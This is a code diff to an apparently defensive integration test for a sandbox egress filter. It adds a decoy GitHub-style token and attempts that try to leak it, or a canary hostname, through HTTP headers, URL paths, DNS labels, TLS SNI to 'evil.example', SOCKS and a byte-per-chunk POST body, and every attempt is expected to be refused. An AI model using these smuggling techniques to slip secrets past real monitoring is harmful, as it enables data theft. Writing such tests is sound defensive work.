@@ -24,6 +24,7 @@ from tests.integration.egress.namespaces import (
 from tests.integration.egress.workspace import Workspace, tls
 from tests.unit.egress.hellos import ECH, hello, server_names
 
+DECOY = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
 HOST_ITSELF = "93.184.0.12"
 POLICY = Policy(
     rules=(
@@ -42,6 +43,7 @@ POLICY = Policy(
     ),
     denied=(pattern("no.wild.example"),),
     canaries=("canary.wild.example",),
+    decoys=(DECOY,),
     services=(("db", WORKSPACE),),
     forbidden=(f"{HOST_ITSELF}/32",),
 )
@@ -292,6 +294,20 @@ ATTEMPTS = [
     Attempt(0, "section 6", "the gateway's other address by the interface", by_device(GATEWAY_OUTSIDE, 80), "refused",
             "not-a-name"),
     Attempt(0, "sandboxd", "a canary", connect("canary.wild.example:443"), NO, "canary"),
+    Attempt(0, "sandboxd", "a canary, by SOCKS", socks(b"canary.wild.example"), "code 2", "canary"),
+    Attempt(0, "sandboxd", "a canary, looked up", lookup("canary.wild.example"), NO_NAME, "canary"),
+    Attempt(0, "sandboxd", "a canary as Host", proxy("GET http://open.example/ HTTP/1.1", "Host: canary.wild.example"),
+            NO, "canary"),
+    Attempt(0, "sandboxd", "a canary as SNI", by_tls("open.example:443", "canary.wild.example"), "refused", "canary"),
+    Attempt(0, "sandboxd", "a decoy in a header", proxy("GET http://open.example/ HTTP/1.1", "Host: open.example",
+            f"X-Key: {DECOY}"), NO, "canary"),
+    Attempt(0, "sandboxd", "a decoy in a URL, directly",
+            direct("open.example", 80, f"GET /{DECOY} HTTP/1.1\r\nHost: open.example\r\n\r\n".encode()), NO, "canary"),
+    Attempt(0, "sandboxd", "a decoy in a name", lookup(f"{DECOY}.wild.example"), NO_NAME, "canary"),
+    Attempt(0, "sandboxd", "a decoy as SNI", by_tls("open.example:443", f"{DECOY}.evil.example"), "refused", "canary"),
+    Attempt(0, "sandboxd", "a decoy in the chunks of a body",
+            raw(b"POST http://open.example/ HTTP/1.1\r\nHost: open.example\r\nTransfer-Encoding: chunked\r\n\r\n"
+                + b"".join(b"1\r\n%c\r\n" % byte for byte in DECOY.encode()) + b"0\r\n\r\n"), "refused", "canary"),
     Attempt(0, "sandboxd", "plain text on port 80 that is no HTTP", direct("open.example", 80, b"EHLO x\r\n\r\n"), BAD,
             "malformed"),
     Attempt(0, "sandboxd", "CONNECT within a tunnel to port 80",
